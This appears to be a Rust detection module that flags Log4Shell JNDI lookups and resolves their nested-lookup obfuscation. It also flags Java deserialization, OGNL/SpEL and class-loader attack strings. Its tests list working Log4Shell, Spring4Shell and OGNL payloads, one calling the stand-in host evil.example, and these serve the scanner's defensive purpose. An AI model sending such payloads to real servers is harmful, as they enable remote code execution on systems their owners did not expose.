//! JNDI lookups (Log4Shell) with their nested-lookup obfuscation, and the other ways a Java
//! server is made to run code: deserialization, OGNL/SpEL expressions, class loader access.

/// Log4j lookups that evaluate to their argument or default, used to spell `jndi` unseen.
const SPELLING_LOOKUPS: &[&str] = &[
    "lower:", "upper:", "env:", "sys:", "date:", "main:", "ctx:", "map:", "sd:", "bundle:",
    "java:", "base64:",
];
const JAVA_CODE: &[(&str, &str)] = &[
    ("java.lang.runtime", "java.runtime_exec"),
    ("getruntime()", "java.runtime_exec"),
    ("java.lang.processbuilder", "java.runtime_exec"),
    ("processbuilder(", "java.runtime_exec"),
    ("class.module.classloader", "java.class_loader"),
    ("class.classloader", "java.class_loader"),
    ("#_memberaccess", "java.ognl"),
    ("@ognl.", "java.ognl"),
    ("xwork.methodaccessor", "java.ognl"),
    ("t(java.", "java.spel"),
    ("java.beans.xmldecoder", "java.deserialization"),
    ("ro0ab", "java.deserialization"),
    ("aced0005", "java.deserialization"),
    ("javax.naming.initialcontext", "java.jndi"),
    ("javax.script.scriptenginemanager", "java.runtime_exec"),
    ("java.net.urlclassloader", "java.class_loader"),
];
const MAX_LOOKUP_ROUNDS: usize = 16;

pub fn check(value: &str) -> Option<&'static str> {
    if value.contains("${") {
        let resolved = resolve_lookups(value);
        if resolved.contains("${jndi:") {
            return Some("jndi.lookup");
        }
        if resolved != value && (resolved.contains("${") || value.contains("${${")) {
            return Some("jndi.obfuscated_lookup");
        }
    }
    JAVA_CODE
        .iter()
        .find(|(needle, _)| value.contains(needle))
        .map(|(_, rule)| *rule)
}

/// Replaces innermost lookups other than `jndi:` by what Log4j would make of them: the
/// default after `:-`, or the argument of a case lookup.
fn resolve_lookups(value: &str) -> String {
    let mut text = value.to_owned();
    for _ in 0..MAX_LOOKUP_ROUNDS {
        let Some(replaced) = resolve_one(&text) else {
            break;
        };
        text = replaced;
    }
    text
}

fn resolve_one(text: &str) -> Option<String> {
    let mut search = 0;
    while let Some(found) = text[search..].find("${") {
        let open = search + found;
        let inner_start = open + 2;
        let close = inner_start + text[inner_start..].find('}')?;
        let inner = &text[inner_start..close];
        if inner.contains("${") {
            search = inner_start;
            continue;
        }
        if inner.starts_with("jndi:") {
            search = close;
            continue;
        }
        let value = if let Some((_, default)) = inner.split_once(":-") {
            default
        } else if let Some(lookup) = SPELLING_LOOKUPS.iter().find(|l| inner.starts_with(*l)) {
            &inner[lookup.len()..]
        } else {
            search = close;
            continue;
        };
        return Some(format!("{}{}{}", &text[..open], value, &text[close + 1..]));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::check;

    #[test]
    fn lookups_and_java_code_are_found() {
        for value in [
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:rmi://x/y}",
            "${${::-j}${::-n}${::-d}${::-i}:dns://x}",
            "${${env:nothing:-j}ndi:ldap://x}",
            "class.module.classloader.resources.context.parent.pipeline.first.pattern=x",
            "ro0abxnyabfqyxzhlnv0awwuagfzaehhc2hnyxa",
            "%{(#_memberaccess['allowstaticmethodaccess']=true)}",
        ] {
            assert!(check(value).is_some(), "missed {value:?}");
        }
        for value in [
            "price is ${amount} today",
            "use java.lang.string for names",
            "template ${name} in docs",
        ] {
            assert_eq!(check(value), None, "flagged {value:?}");
        }
    }
}
